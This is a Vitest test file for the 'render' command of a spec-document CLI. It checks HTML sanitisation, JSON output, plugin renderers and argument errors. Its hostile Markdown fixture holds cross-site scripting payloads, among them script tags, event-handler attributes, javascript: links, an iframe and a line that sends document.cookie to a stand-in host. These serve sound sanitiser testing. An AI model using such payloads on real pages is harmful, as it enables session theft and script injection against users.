import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { Project } from './cli-harness.js';

let project: Project;

beforeEach(async () => {
  project = await Project.create();
});

afterEach(async () => {
  await project.remove();
});

/** An RFC written by an attacker: every way Markdown can smuggle active content into a page. */
const HOSTILE_RFC = `# SPEC 0042: Payment <script>alert('title')</script> links

**Status**: draft
**Author**: Mallory <img src=x onerror="alert('author')">
**Created**: 2025-03-04
**Last Updated**: 2025-03-05
**Reviewers**: @mara

## Summary

<script>document.location = 'https://evil.example/?' + document.cookie</script>

<div onmouseover="alert('div')" style="position:fixed;inset:0">cover</div>

Click [here](javascript:alert('link')) or [there](JaVaScRiPt:alert('case')) or [safe](https://example.com/docs).

<a href="javascript:alert('anchor')">raw anchor</a> <iframe src="https://evil.example"></iframe>

![tracker](javascript:alert('image'))

| Field | Notes |
|-------|-------|
| amount | <img src=x onerror=alert('cell')> integer cents |

- [x] Signed payloads
- [ ] Replay protection

\`\`\`mermaid
sequenceDiagram
  Merchant->>API: <script>alert('mermaid')</script>
\`\`\`

\`\`\`json
{ "amount": 100 }
\`\`\`
`;

describe('specloom render', () => {
  it('writes a sanitized standalone HTML page with no active content from the spec', async () => {
    await project.write('docs/0042-payment-links.md', HOSTILE_RFC);
    const run = await project.run(['render', 'docs', '--to', 'html', '--out', 'site']);
    expect(run.stderr).toBe('');
    expect(run.exitCode).toBe(0);
    expect(run.stdout).toBe('site/docs/0042-payment-links.html\n');
    const page = await project.read('site/docs/0042-payment-links.html');

    expect(page).not.toMatch(/<script/iu);
    expect(page).not.toMatch(/<iframe/iu);
    // No tag carries an event attribute; the table cell's `<img onerror>` survives only as escaped text.
    expect(page).not.toMatch(/<[a-z][^>]*\son[a-z]+\s*=/iu);
    expect(page).toContain("<td>&#x3C;img src=x onerror=alert('cell')> integer cents</td>");
    expect(page).not.toMatch(/javascript:/iu);
    expect(page).not.toMatch(/<div[^>]*style=/iu);

    expect(page).toMatch(/^<!doctype html>/u);
    expect(page).toContain('<span class="status status-draft">draft</span>');
    expect(page).toContain('<a href="https://example.com/docs">safe</a>');
    expect(page).toContain('<a href="#user-content-summary">Summary</a>');
    expect(page).toContain('<th>Field</th>');
    expect(page).toMatch(/<input type="checkbox" checked disabled>\s*Signed payloads/u);
    expect(page).toContain('<pre class="mermaid">sequenceDiagram\n  Merchant->>API: &#x3C;script>');
    expect(page).toContain('<code class="language-json">');
  });

  it('prints one document as JSON following the published schema', async () => {
    await project.write('docs/0042-payment-links.md', HOSTILE_RFC);
    const run = await project.run(['render', 'docs/0042-payment-links.md', '--to', 'json']);
    expect(run.exitCode).toBe(0);
    const json = JSON.parse(run.stdout) as Record<string, unknown>;
    expect(json).toMatchObject({
      $schema: 'https://specloom.dev/schema/spec-document.schema.json',
      path: 'docs/0042-payment-links.md',
      template: 'rfc',
      id: 'SPEC 0042',
      status: 'draft',
      created: '2025-03-04',
      lastUpdated: '2025-03-05',
    });
    expect(json.tables).toEqual([{ section: 'Summary', line: 21, header: ['Field', 'Notes'], rows: [['amount', "<img src=x onerror=alert('cell')> integer cents"]] }]);
  });

  it('skips files without a template with a note and prints several JSON documents as an array', async () => {
    await project.write('docs/0042-payment-links.md', HOSTILE_RFC);
    await project.write('docs/0043-refunds.md', HOSTILE_RFC.replace('SPEC 0042', 'SPEC 0043'));
    await project.write('docs/notes.md', '# Notes\n');
    const run = await project.run(['render', 'docs', '--to', 'json']);
    expect(run.exitCode).toBe(0);
    expect(run.stderr).toBe('\u2139 docs/notes.md: No template matches this file; skipped\n');
    expect((JSON.parse(run.stdout) as Array<{ id: string }>).map((document) => document.id)).toEqual(['SPEC 0042', 'SPEC 0043']);
  });

  it("uses a plugin's renderer for its template and the core default for the rest", async () => {
    await project.write('docs/0042-payment-links.md', HOSTILE_RFC);
    await project.write(
      'specloom.config.mjs',
      `export default {
  plugins: [{
    name: 'acme',
    renderers: [{ format: 'html', templates: ['rfc'], render: (document, context) => '<p>acme ' + document.template + ' ' + context.today.length + '</p>\\n' }],
  }],
};
`,
    );
    const rfc = await project.run(['render', 'docs/0042-payment-links.md', '--to', 'html']);
    expect(rfc.stderr).toBe('');
    expect(rfc.stdout).toBe('<p>acme rfc 10</p>\n');
    const json = await project.run(['render', 'docs/0042-payment-links.md', '--to', 'json']);
    expect(JSON.parse(json.stdout)).toMatchObject({ id: 'SPEC 0042' });
  });

  it('rejects bad arguments with one line and exit 2', async () => {
    await project.write('docs/0042-payment-links.md', HOSTILE_RFC);
    await project.write('docs/0043-refunds.md', HOSTILE_RFC.replace('SPEC 0042', 'SPEC 0043'));
    const cases: Array<[string[], string]> = [
      [['render', 'docs'], "specloom: required option '-t, --to <format>' not specified\n"],
      [['render', 'nowhere', '--to', 'html'], 'specloom: No files matching "nowhere" were found.\n'],
      [['render', 'docs', '--to', 'html'], 'specloom: Unexpected 2 HTML pages for stdout, expected --out DIR\n'],
    ];
    for (const [args, stderr] of cases) {
      const run = await project.run(args);
      expect(run.stderr).toBe(stderr);
      expect(run.exitCode).toBe(2);
    }
    const unknownFormat = await project.run(['render', 'docs', '--to', 'pdf']);
    expect(unknownFormat.stderr).toMatch(/^specloom: Unexpected format "pdf" for --to, expected one of (?:[a-z-]+, )*html, (?:[a-z-]+, )*json(?:, [a-z-]+)*\n$/u);
    expect(unknownFormat.exitCode).toBe(2);
  });

  it("renders a plugin's own format for the templates it names and skips the others", async () => {
    await project.write('docs/0042-payment-links.md', HOSTILE_RFC);
    await project.write('docs/0043-refunds.md', HOSTILE_RFC.replace('SPEC 0042', 'SPEC 0043'));
    await project.write('docs/ADR-1.md', '---\ntemplate: acme-note\n---\n# Note\n');
    await project.write(
      'specloom.config.mjs',
      `export default {
  plugins: [{
    name: 'acme',
    templates: [{ id: 'acme-note', description: 'note', schema: { sections: [], metadata: [] } }],
    renderers: [{ format: 'summary-md', extension: 'summary.md', templates: ['rfc'], render: (document) => '# RFC ' + document.title.parts.number + '\\n' }],
  }],
};
`,
    );
    const stdout = await project.run(['render', 'docs', '--to', 'summary-md']);
    expect(stdout.stdout).toBe('# RFC 0042\n\n# RFC 0043\n');
    expect(stdout.stderr).toBe('\u2139 docs/ADR-1.md: No summary-md renderer for template "acme-note"; skipped\n');
    expect(stdout.exitCode).toBe(0);

    const files = await project.run(['render', 'docs/0042-payment-links.md', '--to', 'summary-md', '--out', 'site']);
    expect(files.stdout).toBe('site/docs/0042-payment-links.summary.md\n');
    expect(await project.read('site/docs/0042-payment-links.summary.md')).toBe('# RFC 0042\n');

    const nothing = await project.run(['render', 'docs/ADR-1.md', '--to', 'summary-md']);
    expect(nothing.exitCode).toBe(1);
  });
});
